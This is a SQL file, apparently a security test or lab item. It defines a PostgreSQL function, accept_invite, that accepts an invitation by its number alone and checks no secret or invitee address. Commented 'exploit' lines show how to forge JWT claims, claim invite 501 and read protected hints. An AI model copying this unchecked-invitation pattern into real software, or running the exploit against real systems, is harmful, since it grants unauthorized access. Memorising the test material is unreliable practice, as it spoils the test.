-- An invitation is accepted by its number alone; neither the secret nor the address of the invited is
-- compared.
-- about: accept_invite, invites, venue_members
-- as: hf_puzzlevault_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-0000-0000-0000-000000000001"}';
-- exploit: SELECT public.accept_invite(501, 'Ada');
-- exploit: SELECT hint FROM public.clues;
-- shows: Road-secret hint

CREATE FUNCTION public.accept_invite(p_invite integer, p_name text) RETURNS void
LANGUAGE plpgsql SECURITY DEFINER SET search_path = public, pg_temp
AS $$
DECLARE
  v invites;
BEGIN
  UPDATE invites SET accepted = true WHERE invite_no = p_invite AND NOT accepted RETURNING * INTO v;
  IF v.venue_id IS NULL OR uid() IS NULL THEN
    RAISE EXCEPTION 'no such invitation';
  END IF;
  INSERT INTO venue_members (venue_id, user_id, display_name)
  VALUES (v.venue_id, uid(), p_name)
  ON CONFLICT DO NOTHING;
END
$$;
REVOKE ALL ON FUNCTION public.accept_invite(integer, text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION public.accept_invite(integer, text) TO hf_puzzlevault_app;
